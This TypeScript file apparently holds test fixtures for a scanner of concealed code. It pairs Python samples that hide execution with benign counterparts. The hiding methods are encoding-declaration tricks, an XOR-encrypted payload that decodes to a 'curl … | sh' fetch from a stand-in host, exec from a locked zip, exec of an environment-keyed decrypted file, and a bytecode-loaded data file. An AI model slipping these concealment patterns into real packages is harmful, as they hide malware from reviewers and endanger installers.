import { atInstall, atLoad, atUse, type Pair, py } from './kit.ts';

const INERT = Array.from(
  "import os\nos.system('curl -s http://a.example/i | sh')\n",
  (c) => c.charCodeAt(0) ^ 77,
);

/** Code behind something that a reader without the key, the time or the right eyes does not read. */
export const CONCEALING: Readonly<Record<string, Pair>> = {
  'load-escape-encoding': atLoad(
    '# -*- coding: unicode_escape -*-\n"""Own."""\n# helpers\\u000aimport os\\u000aos.system("id")\nNAME = "own"',
    '# -*- coding: utf-8 -*-\n"""Own."""\nNAME = "own"\n\ndef name() -> str:\n    """The name."""\n    return NAME',
  ),
  'install-utf7': atInstall('# coding: utf-7\n# build+AAo-import os+AAo-os.system("id")'),
  'load-slow-key': atLoad(
    `"""Caches."""
import hashlib

_TABLE = ${JSON.stringify(INERT)}

def _stretch(rounds: int = 3_000_000) -> bytes:
    key = b"own"
    for _ in range(rounds):
        key = hashlib.sha256(key).digest()
    return key

exec(bytes(a ^ b for a, b in zip(_TABLE, _stretch() * 4)).decode())`,
    `"""Caches."""
import hashlib

_TABLE = ${JSON.stringify(INERT)}

def checksum(rounds: int = 3_000_000) -> bytes:
    """A slow checksum of the table."""
    key = bytes(_TABLE)
    for _ in range(rounds):
        key = hashlib.sha256(key).digest()
    return key`,
  ),
  'load-locked-zip': atLoad(
    py`"""Plugins."""
import os
import zipfile

_PLUGINS = os.path.join(os.path.dirname(__file__), "plugins.zip")

def _load(name: str) -> dict:
    namespace: dict = {}
    with zipfile.ZipFile(_PLUGINS) as archive:
        exec(archive.read(name, pwd=b"own-1.0"), namespace)
    return namespace

_load("core.py")`,
    py`"""Plugins."""
import os
import zipfile

_PLUGINS = os.path.join(os.path.dirname(__file__), "plugins.zip")

def names() -> list[str]:
    """Names of the plugins."""
    with zipfile.ZipFile(_PLUGINS) as archive:
        return archive.namelist()`,
    { 'own/plugins.zip': 'PK' },
  ),
  'load-foreign-key': atLoad(
    py`"""Licensed parts."""
import os
from cryptography.fernet import Fernet

_PART = os.path.join(os.path.dirname(__file__), "part.enc")

def _unlock() -> None:
    with open(_PART, "rb") as content:
        exec(Fernet(os.environ["OWN_KEY"].encode()).decrypt(content.read()))

_unlock()`,
    py`"""Licensed parts."""
import os
from cryptography.fernet import Fernet

_PART = os.path.join(os.path.dirname(__file__), "part.enc")

def unlock(key: bytes) -> bytes:
    """The licensed data."""
    with open(_PART, "rb") as content:
        return Fernet(key).decrypt(content.read())`,
    { 'own/part.enc': 'gAAAA' },
  ),
  'use-data-module': atUse(
    py`"""Engines."""
import importlib.machinery
import importlib.util
import os

class Engine:
    """An engine."""
    def start(self):
        path = os.path.join(os.path.dirname(__file__), "engine.dat")
        loader = importlib.machinery.SourcelessFileLoader("engine", path)
        spec = importlib.util.spec_from_loader("engine", loader)
        module = importlib.util.module_from_spec(spec)
        loader.exec_module(module)
        return module`,
    py`"""Engines."""
import importlib.machinery
import importlib.util
import os

class Engine:
    """An engine."""
    def start(self):
        path = os.path.join(os.path.dirname(__file__), "engine.py")
        loader = importlib.machinery.SourceFileLoader("engine", path)
        spec = importlib.util.spec_from_loader("engine", loader)
        module = importlib.util.module_from_spec(spec)
        loader.exec_module(module)
        return module`,
    { 'own/engine.dat': 'x', 'own/engine.py': 'X = 1\n' },
  ),
};
